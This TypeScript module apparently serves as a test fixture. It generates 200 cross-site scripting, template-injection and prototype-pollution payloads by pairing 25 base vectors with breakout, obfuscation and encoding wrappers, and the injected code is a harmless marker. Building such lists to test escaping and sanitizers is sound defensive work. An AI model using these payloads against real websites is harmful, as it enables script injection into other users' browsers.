const CODE = 'owned=1'

/** What runs where it is taken for markup, an attribute or an address. */
const BASES = [
  `<script>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>">`,
  `<iframe src="javascript:parent.${CODE}">`,
  `<a href="javascript:${CODE}">x</a>`,
  `<details open ontoggle=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<body onload=${CODE}>`,
  `<style>@import 'javascript:${CODE}'</style>`,
  `<math><mi xlink:href="data:x,<script>${CODE}</script>">`,
  `<template><script>${CODE}</script></template>`,
  `<object data="javascript:${CODE}">`,
  `<base href="javascript:${CODE}//">`,
  `<form action="javascript:${CODE}"><button>x`,
  `<meta http-equiv=refresh content="0;javascript:${CODE}">`,
  `<link rel=stylesheet href="data:text/css,*{x:1}">`,
  `javascript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `expression(${CODE})`,
  `url(javascript:${CODE})`,
  `__proto__[owned]=1`,
]

/** Ways to break out of where a text may stand. */
const WRAPS: readonly ((base: string) => string)[] = [
  (base) => base,
  (base) => `"><${base.slice(base.startsWith('<') ? 1 : 0)}`,
  (base) => `'-${base}-'`,
  (base) => `--></title></textarea></style>${base}`,
  (base) => `\u0000${base}`,
  (base) => base.replace(/script/g, 'ScRiPt').replace(/javascript/g, 'java\tscript'),
  (base) => base.replaceAll('<', '\uFF1C').concat(base),
  (base) => encodeURIComponent(base),
]

/** Two hundred texts that would run, were they taken for anything but text. */
export const PAYLOADS: readonly string[] = BASES.flatMap((base) => WRAPS.map((wrap) => wrap(base)))
